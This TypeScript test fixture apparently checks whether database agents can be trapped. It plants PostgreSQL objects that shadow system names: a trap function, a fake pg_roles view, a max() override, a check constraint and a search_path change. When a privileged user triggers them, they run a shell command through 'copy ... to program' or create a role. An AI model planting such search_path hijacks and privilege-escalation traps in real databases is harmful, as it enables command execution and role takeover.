import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { DatabaseContainer } from '../kit/database-image.ts';

/**
 * Plants what the agents' role may: a table whose constraint calls a function as rows come in, and a schema with
 * functions and views named as those of Postgres, which the database's setting puts first. As a superuser they start a
 * program, as the admin of passwords they make a role.
 */
export async function plant({ sql, pipe }: Pick<DatabaseContainer, 'sql' | 'pipe'>): Promise<void> {
  await sql(`set role gx; create schema evil; grant usage on schema evil to public;
    create function evil.trap() returns boolean language plpgsql as $trap$ begin
      if pg_catalog.current_setting('is_superuser') = 'on' then
        execute pg_catalog.format('copy (select 1) to program %L', 'touch ${join(pipe, 'mark')}');
      elsif current_user = 'gx_admin' then
        begin execute 'create role planted'; exception when duplicate_object then null; end;
      end if;
      return true;
    end $trap$;
    create function evil.max(integer) returns integer language plpgsql as 'begin perform evil.trap(); return $1; end';
    create view evil.pg_roles as select *, evil.trap() from pg_catalog.pg_roles;
    grant select on evil.pg_roles to public;
    create table gx.bait (id int primary key check (evil.trap()));
    insert into gx.bait values (1), (2);
    alter database gx set search_path = evil, pg_catalog`);
}

/** Returns with whose rights the planted functions did harm. */
export async function trapsSprung({
  sql,
  pipe,
}: Pick<DatabaseContainer, 'sql' | 'pipe'>): Promise<string[]> {
  const isPlanted =
    (await sql("select pg_catalog.count(*) from pg_catalog.pg_roles where rolname = 'planted'")) !==
    '0';
  return [
    ...(isPlanted ? ['as gx_admin'] : []),
    ...(existsSync(join(pipe, 'mark')) ? ['as postgres'] : []),
  ];
}
